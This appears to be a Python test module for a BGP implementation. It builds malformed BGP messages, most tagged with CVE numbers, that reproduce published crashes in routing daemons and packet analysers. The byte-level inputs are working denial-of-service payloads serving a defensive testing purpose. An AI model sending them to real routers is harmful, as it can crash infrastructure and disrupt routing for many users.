# SPDX-License-Identifier: Apache-2.0
"""Messages that broke routing daemons and analysers, made from what was published about them. What
they broke is named; here each is one more message of somebody who means harm."""

import socket
import struct

from speaker import NOTIFICATION, OPEN, UPDATE, capability, message

CAPABILITY = 6  # draft-ietf-idr-dynamic-cap
ROUTE_REFRESH = 5


def open_with(parameters: bytes, length: int | None = None) -> bytes:
    """`length`: what the octet of the parameters' length says, right or not."""
    said = len(parameters) if length is None else length
    fixed = struct.pack("!BHH4sB", 4, 64501, 90, socket.inet_aton("10.0.0.2"), said)
    return message(OPEN, fixed + parameters)


def capabilities(*values: bytes) -> bytes:
    joined = b"".join(values)
    return bytes([2, len(joined)]) + joined


def update(attributes: bytes, withdrawn: bytes = b"", nlri: bytes = b"") -> bytes:
    body = struct.pack("!H", len(withdrawn)) + withdrawn
    return message(UPDATE, body + struct.pack("!H", len(attributes)) + attributes + nlri)


def attribute(flags: int, code: int, value: bytes, length: int | None = None) -> bytes:
    return bytes([flags, code, len(value) if length is None else length]) + value


def nested(depth: int) -> bytes:
    """ATTR_SET (RFC 6368) in ATTR_SET."""
    value = b""
    for _ in range(depth):
        value = attribute(0xD0, 128, b"")[:2] + struct.pack("!H", len(value) + 4) + bytes(4) + value
    return value


OPENS = {
    "CVE-2022-40302: extended parameters, and the OPEN ends behind their marker": open_with(
        b"\xff", 255
    ),
    "CVE-2022-43681: the OPEN ends in the extended length": open_with(b"\xff\x00", 255),
    "CVE-2022-43681: the OPEN ends with the octet of the length": open_with(b"", 255),
    "CVE-2022-40318: an extended parameter whose header is cut": open_with(
        b"\xff\x00\x02\x02\x00", 255
    ),
    "CVE-2022-40318: an extended parameter that says more than there is": open_with(
        b"\xff\x00\x05\x02\xff\xff\x01\x04", 255
    ),
    "CVE-2025-43971: a software version of no length": open_with(
        capabilities(capability(75, b"\x00"))
    ),
    "CVE-2025-43971: a software version longer than its capability": open_with(
        capabilities(capability(75, b"\xffGoBGP"))
    ),
    "CVE-2018-14467: a capability longer than the message": open_with(
        capabilities(b"\x01\xff\x00\x01")
    ),
    "CVE-2018-14881: graceful restart of one octet": open_with(
        capabilities(capability(64, b"\x00"))
    ),
    "CVE-2018-14881: graceful restart with half a family": open_with(
        capabilities(capability(64, b"\x80\x78\x00\x01\x01"))
    ),
    "FQDN whose host name is longer than it": open_with(capabilities(capability(73, b"\xffa"))),
    "FQDN without a domain": open_with(capabilities(capability(73, b"\x04host"))),
    "long-lived graceful restart of three octets": open_with(
        capabilities(capability(71, b"\x00\x01\x01"))
    ),
    "ORF whose number of types lies": open_with(
        capabilities(capability(3, b"\x00\x01\x00\x01\xff\x40\x03"))
    ),
    "a parameter of no length, again and again": open_with(b"\x02\x00" * 127),
    "a capability without a length": open_with(b"\x02\x01\x01"),
}

IN_A_SESSION = {
    "CVE-2019-16159: a shutdown communication of 255 octets": message(
        NOTIFICATION, b"\x06\x02\xff" + b"A" * 255
    ),
    "CVE-2019-16159: one that is longer than the message": message(NOTIFICATION, b"\x06\x02\xffA"),
    "CVE-2022-37032: a CAPABILITY message that ends in its value": message(
        CAPABILITY, b"\x01\x01\xff\x00"
    ),
    "CVE-2022-37032: one without a value": message(CAPABILITY, b"\x01"),
    "CVE-2017-15865: an attribute longer than the UPDATE": update(
        attribute(0x40, 2, b"\x02\x01", 255)
    ),
    "CVE-2023-38802: a corrupted tunnel encapsulation attribute": update(
        attribute(0xC0, 23, b"\x00\x02\x00\xff\x01")
    ),
    "CVE-2018-16300: attributes in attributes": update(nested(120)),
    "CVE-2018-16230: MP_REACH_NLRI without its next hop": update(
        attribute(0x80, 14, b"\x00\x01\x01\xff")
    ),
    "MP_UNREACH_NLRI of one octet": update(attribute(0x80, 15, b"\x00")),
    "withdrawn routes longer than the UPDATE": message(UPDATE, b"\xff\xff\x00\x00"),
    "a prefix of 255 bits": update(b"", nlri=b"\xff\x0a"),
    "ROUTE-REFRESH with ORF entries that lie": message(
        ROUTE_REFRESH, b"\x00\x01\x00\x01\x01\x40\xff\xff\x00"
    ),
    "ROUTE-REFRESH of no length": message(ROUTE_REFRESH),
    "a NOTIFICATION of one octet": message(NOTIFICATION, b"\x06"),
    "a hard reset that wraps nothing": message(NOTIFICATION, b"\x06\x09\x06"),
    "a message of type 0": message(0, b"\x00" * 40),
    "a message of type 255": message(255, b"\xff" * 40),
}
